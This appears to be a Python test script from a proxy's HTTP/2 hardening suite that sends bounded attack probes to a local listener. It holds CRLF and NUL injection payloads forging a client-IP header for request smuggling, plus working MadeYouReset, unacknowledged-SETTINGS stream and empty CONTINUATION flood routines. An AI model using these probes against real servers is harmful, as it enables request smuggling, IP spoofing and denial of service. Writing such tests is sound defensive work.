#!/usr/bin/python3
"""HTTP/2 attack probes for EdgeHardeningE2E (docs/security.md, "Hardening suite").

Runs one probe against the proxy's shared TLS listener (ALPN h2) and prints one JSON object on
the last line of stdout. Debian's python3-h2 (and its hpack) encodes header blocks; frames that
a well-behaved client never sends are written by hand. Every loop is bounded in count and time.

  h2probe.py inject    --port P --host H   forged :path/:method/:authority/header values
  h2probe.py nosettingsack --port P --host H --streams N   streams before the SETTINGS ACK
  h2probe.py madeyoureset  --port P --host H --streams N   HEADERS+END_STREAM then WINDOW_UPDATE 0
  h2probe.py continuation  --port P --host H --frames N    HEADERS then N empty CONTINUATIONs
"""
import argparse
import json
import select
import socket
import ssl
import struct
import sys
import time

import h2.config
import h2.connection
import h2.events
import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
PROTOCOL_ERROR, REFUSED_STREAM, ENHANCE_YOUR_CALM = 0x1, 0x7, 0xB
FORGED_IP = "10.6.6.6"


def tls_connect(port, host, timeout=5.0):
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE  # the examples' certificate is a self-signed demo one
    ctx.set_alpn_protocols(["h2"])
    raw = socket.create_connection(("127.0.0.1", port), timeout=timeout)
    s = ctx.wrap_socket(raw, server_hostname=host)
    if s.selected_alpn_protocol() != "h2":
        raise SystemExit("ALPN did not choose h2: %r" % s.selected_alpn_protocol())
    return s


def frame(ftype, flags, stream, payload=b""):
    return struct.pack("!I", len(payload))[1:] + struct.pack("!BBI", ftype, flags, stream & 0x7FFFFFFF) + payload


class Reader:
    """Reads whole frames from a socket, decoding response header blocks to keep HPACK in step."""

    def __init__(self, sock):
        self.sock = sock
        self.buf = b""
        self.closed = False
        self.decoder = hpack.Decoder()
        self.decoder.max_header_list_size = 1 << 20

    def frames(self, deadline, stop=lambda: False):
        """Yields (type, flags, stream, payload) until the deadline, the peer closes, or stop()."""
        while not self.closed and time.monotonic() < deadline and not stop():
            while len(self.buf) >= 9:
                length = struct.unpack("!I", b"\0" + self.buf[:3])[0]
                if len(self.buf) < 9 + length:
                    break
                ftype, flags, stream = struct.unpack("!BBI", self.buf[3:9])
                payload = self.buf[9:9 + length]
                self.buf = self.buf[9 + length:]
                if ftype in (HEADERS, CONTINUATION):
                    try:
                        self.decoder.decode(strip_padding(ftype, flags, payload))
                    except Exception:  # noqa: BLE001 - an undecodable block only matters to status reading
                        pass
                yield ftype, flags, stream & 0x7FFFFFFF, payload
                if stop():
                    return
            self.fill(max(0.0, deadline - time.monotonic()))

    def fill(self, wait):
        # TLS may hold decrypted bytes that select() cannot see: read those first.
        if not (hasattr(self.sock, "pending") and self.sock.pending()):
            r, _, _ = select.select([self.sock], [], [], min(wait, 0.5))
            if not r:
                return
        try:
            data = self.sock.recv(65536)
        except (ssl.SSLWantReadError, BlockingIOError, socket.timeout):
            return
        except (ConnectionError, ssl.SSLError, OSError):
            data = b""
        if not data:
            self.closed = True
        self.buf += data


def strip_padding(ftype, flags, payload):
    if ftype == HEADERS:
        if flags & 0x8:  # PADDED
            pad = payload[0]
            payload = payload[1:len(payload) - pad]
        if flags & 0x20:  # PRIORITY
            payload = payload[5:]
    return payload


def goaway_of(payload):
    last, code = struct.unpack("!II", payload[:8])
    return {"lastStreamId": last & 0x7FFFFFFF, "code": code}


def raw_handshake(sock, ack_settings=True):
    """Sends the preface and an empty SETTINGS; ACKs the server's SETTINGS only if told to."""
    sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
    reader = Reader(sock)
    got = []
    for ftype, flags, _, _ in reader.frames(time.monotonic() + 5, stop=lambda: bool(got)):
        if ftype == SETTINGS and not flags & ACK:
            got.append(True)
    if not got:
        raise SystemExit("no SETTINGS from the server")
    if ack_settings:
        sock.sendall(frame(SETTINGS, ACK, 0))
    return reader


def request_block(encoder, host, path, method="GET", extra=()):
    return encoder.encode([(":method", method), (":scheme", "https"), (":authority", host), (":path", path)] + list(extra))


# ---------------------------------------------------------------------------------------------
# 1. HTTP/2 -> HTTP/1.1 injection, with python3-h2 told not to validate or normalize what it sends.

INJECTIONS = [
    ("path-crlf-smuggle", {":path": "/a HTTP/1.1\r\nHost: web.default.flycast\r\nFly-Client-IP: %s\r\n\r\nGET /x" % FORGED_IP}),
    ("path-lf", {":path": "/a\nFly-Client-IP: %s" % FORGED_IP}),
    ("path-cr", {":path": "/a\rFly-Client-IP: %s" % FORGED_IP}),
    ("path-nul", {":path": "/a\0b"}),
    ("path-space", {":path": "/a HTTP/1.1"}),
    ("path-tab", {":path": "/a\tb"}),
    ("method-not-token", {":method": "GET /x HTTP/1.1\r\nFly-Client-IP: %s\r\n\r\nGET" % FORGED_IP}),
    ("method-space", {":method": "G T"}),
    ("authority-crlf", {":authority": "{host}\r\nFly-Client-IP: %s" % FORGED_IP}),
    ("authority-space", {":authority": "{host} x"}),
    ("authority-nul", {":authority": "{host}\0"}),
    ("header-value-crlf", {"x-probe": "a\r\nFly-Client-IP: %s" % FORGED_IP}),
    ("header-value-lf", {"x-probe": "a\nFly-Client-IP: %s" % FORGED_IP}),
    ("header-value-nul", {"x-probe": "a\0b"}),
]


def h2_exchange(port, host, headers, timeout=5.0):
    """One request on a fresh connection: {'result': reset|response|goaway|closed|timeout, ...}."""
    sock = tls_connect(port, host, timeout)
    config = h2.config.H2Configuration(client_side=True, validate_outbound_headers=False,
                                       normalize_outbound_headers=False, validate_inbound_headers=False,
                                       normalize_inbound_headers=False)
    conn = h2.connection.H2Connection(config=config)
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    sid = conn.get_next_available_stream_id()
    conn.send_headers(sid, [(k.encode("latin-1"), v.encode("latin-1")) for k, v in headers], end_stream=True)
    sock.sendall(conn.data_to_send())
    out = {"result": "timeout"}
    status, body = None, b""
    deadline = time.monotonic() + timeout
    sock.settimeout(0.5)
    try:
        while time.monotonic() < deadline:
            try:
                data = sock.recv(65536)
            except socket.timeout:
                continue
            except (ConnectionError, ssl.SSLError, OSError):
                data = b""
            if not data:
                out = {"result": "closed"} if status is None else {"result": "response", "status": status, "body": body.decode("utf-8", "replace")}
                break
            try:
                events = conn.receive_data(data)
            except Exception as e:  # noqa: BLE001 - the server sent something h2 refuses
                out = {"result": "client-error", "error": repr(e)}
                break
            done = False
            for ev in events:
                if isinstance(ev, h2.events.ResponseReceived) and ev.stream_id == sid:
                    status = int(dict(ev.headers).get(b":status", b"0"))
                elif isinstance(ev, h2.events.DataReceived) and ev.stream_id == sid:
                    body += ev.data
                    conn.acknowledge_received_data(ev.flow_controlled_length, sid)
                elif isinstance(ev, h2.events.StreamEnded) and ev.stream_id == sid:
                    out = {"result": "response", "status": status, "body": body.decode("utf-8", "replace")}
                    done = True
                elif isinstance(ev, h2.events.StreamReset) and ev.stream_id == sid:
                    out = {"result": "reset", "code": int(ev.error_code)}
                    done = True
                elif isinstance(ev, h2.events.ConnectionTerminated):
                    out = {"result": "goaway", "code": int(ev.error_code), "lastStreamId": ev.last_stream_id}
                    done = True
            pending = conn.data_to_send()
            if pending:
                sock.sendall(pending)
            if done:
                break
    finally:
        sock.close()
    return out


def inject(args):
    base = [(":method", "GET"), (":scheme", "https"), (":authority", args.host), (":path", "/")]
    results = []
    control = h2_exchange(args.port, args.host, [(":method", "GET"), (":scheme", "https"), (":authority", args.host), (":path", "/h2-control")])
    for name, override in INJECTIONS:
        headers = []
        for k, v in base:
            headers.append((k, override.get(k, v).replace("{host}", args.host)))
        for k, v in override.items():
            if not k.startswith(":"):
                headers.append((k, v))
        r = h2_exchange(args.port, args.host, headers)
        r["case"] = name
        results.append(r)
    return {"control": control, "cases": results}


# ---------------------------------------------------------------------------------------------
# 2. Streams opened before the client ACKs the server's SETTINGS (whose MAX_CONCURRENT_STREAMS
#    binds only from the ACK in a naive implementation).

def nosettingsack(args):
    sock = tls_connect(args.port, args.host)
    reader = raw_handshake(sock, ack_settings=False)
    enc = hpack.Encoder()
    # POSTs whose body never comes: each stream stays open for as long as the server keeps it.
    blob = b"".join(frame(HEADERS, END_HEADERS, 2 * i + 1,
                          request_block(enc, args.host, "/open/%d" % i, "POST", [("content-length", "10")]))
                    for i in range(args.streams))
    sock.sendall(blob)
    refused, other_resets, goaway, responses = set(), {}, None, set()
    deadline = time.monotonic() + args.seconds
    for ftype, flags, stream, payload in reader.frames(deadline):
        if ftype == RST_STREAM:
            code = struct.unpack("!I", payload[:4])[0]
            if code == REFUSED_STREAM:
                refused.add(stream)
            else:
                other_resets[stream] = code
        elif ftype == GOAWAY:
            goaway = goaway_of(payload)
        elif ftype == HEADERS:
            responses.add(stream)
        if goaway is not None or len(refused) + len(other_resets) >= args.streams:
            break
    sent = [2 * i + 1 for i in range(args.streams)]
    not_processed = set(s for s in sent if goaway is not None and s > goaway["lastStreamId"])
    accepted = [s for s in sent if s not in refused and s not in other_resets and s not in not_processed]
    sock.close()
    return {"sent": args.streams, "refused": len(refused), "otherResets": len(other_resets),
            "otherResetCodes": sorted(set(other_resets.values())), "goaway": goaway,
            "responses": len(responses), "accepted": len(accepted), "closedByServer": reader.closed}


# ---------------------------------------------------------------------------------------------
# 3. MadeYouReset (CVE-2025-55163): valid requests, each followed by a frame that makes the server
#    reset the stream itself (WINDOW_UPDATE with increment 0 on a half-closed stream).

def madeyoureset(args):
    sock = tls_connect(args.port, args.host)
    reader = raw_handshake(sock, ack_settings=True)
    enc = hpack.Encoder()
    sock.setblocking(False)
    goaway, resets, sent, responses = None, 0, 0, 0
    deadline = time.monotonic() + args.seconds
    batch = 20
    while sent < args.streams and goaway is None and not reader.closed and time.monotonic() < deadline:
        out = b""
        for _ in range(min(batch, args.streams - sent)):
            sid = 2 * sent + 1
            out += frame(HEADERS, END_HEADERS | END_STREAM, sid, request_block(enc, args.host, "/myr/%d" % sent))
            out += frame(WINDOW_UPDATE, 0, sid, struct.pack("!I", 0))
            sent += 1
        if not send_all(sock, out, deadline):
            break
        for ftype, _, _, payload in reader.frames(time.monotonic() + 0.02):
            if ftype == RST_STREAM:
                resets += 1
            elif ftype == HEADERS:
                responses += 1
            elif ftype == GOAWAY:
                goaway = goaway_of(payload)
                break
    # What the server says after the last frame, for a little while.
    for ftype, _, _, payload in reader.frames(time.monotonic() + 3, stop=lambda: goaway is not None):
        if ftype == RST_STREAM:
            resets += 1
        elif ftype == HEADERS:
            responses += 1
        elif ftype == GOAWAY:
            goaway = goaway_of(payload)
    sock.close()
    return {"sent": sent, "resets": resets, "responses": responses, "goaway": goaway, "closedByServer": reader.closed}


def send_all(sock, data, deadline):
    """Writes everything unless the peer closes or the deadline passes; False then."""
    view = memoryview(data)
    while view:
        if time.monotonic() > deadline:
            return False
        _, w, _ = select.select([], [sock], [], 0.2)
        if not w:
            continue
        try:
            n = sock.send(view)
        except (ssl.SSLWantWriteError, BlockingIOError):
            continue
        except (ConnectionError, ssl.SSLError, OSError):
            return False
        view = view[n:]
    return True


# ---------------------------------------------------------------------------------------------
# 4. Empty CONTINUATION flood: a header block that never ends and never grows.

def continuation(args):
    sock = tls_connect(args.port, args.host)
    reader = raw_handshake(sock, ack_settings=True)
    enc = hpack.Encoder()
    sock.setblocking(False)
    deadline = time.monotonic() + args.seconds
    start = frame(HEADERS, END_STREAM, 1, request_block(enc, args.host, "/continuation"))
    ok = send_all(sock, start, deadline)
    sent, goaway = 0, None
    empty = frame(CONTINUATION, 0, 1)
    while ok and sent < args.frames and goaway is None and not reader.closed:
        n = min(100, args.frames - sent)
        ok = send_all(sock, empty * n, deadline)
        if ok:
            sent += n
        for ftype, _, _, payload in reader.frames(time.monotonic() + 0.005):
            if ftype == GOAWAY:
                goaway = goaway_of(payload)
    for ftype, _, _, payload in reader.frames(time.monotonic() + 3, stop=lambda: goaway is not None and reader.closed):
        if ftype == GOAWAY:
            goaway = goaway_of(payload)
    sock.close()
    return {"framesSent": sent, "goaway": goaway, "closedByServer": reader.closed}


def main():
    p = argparse.ArgumentParser()
    p.add_argument("mode", choices=["inject", "nosettingsack", "madeyoureset", "continuation"])
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--host", required=True)
    p.add_argument("--streams", type=int, default=300)
    p.add_argument("--frames", type=int, default=20000)
    p.add_argument("--seconds", type=float, default=10.0)
    args = p.parse_args()
    result = {"inject": inject, "nosettingsack": nosettingsack, "madeyoureset": madeyoureset,
              "continuation": continuation}[args.mode](args)
    sys.stdout.write(json.dumps(result) + "\n")


if __name__ == "__main__":
    main()
